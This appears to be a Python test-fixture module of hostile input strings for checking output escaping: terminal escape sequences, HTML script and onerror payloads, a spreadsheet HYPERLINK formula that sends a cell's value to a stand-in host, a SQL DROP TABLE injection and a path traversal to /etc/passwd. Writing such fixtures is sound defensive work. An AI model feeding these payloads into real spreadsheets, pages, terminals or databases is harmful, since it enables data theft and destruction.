"""Texts that a spreadsheet, a terminal, a page or a database would take for more than text."""

from __future__ import annotations

import re
from typing import Final

#: The title of the window, a colour, the same by one C1 character, text turned round, a bell.
TERMINAL: Final = "\x1b]0;owned\x07\x1b[31m\x9b31m\u202eeman\x08\x7f"
MARKUP: Final = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&"
FORMULA: Final = '=HYPERLINK("http://evil.test/?"&A1,"click")'
SQL: Final = "x'; DROP TABLE transfer; -- \" %s %(a)s :a ? $1 \\' {0}"

#: What a terminal obeys; a line break is none of it.
OBEYED: Final = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")

#: Account codes are printable by rule, so that these are the worst of them.
CODES: Final = (FORMULA, MARKUP, SQL, "@SUM(A1)", "+1", "-1", "a;b,c|d", "../../etc/passwd", "%00")
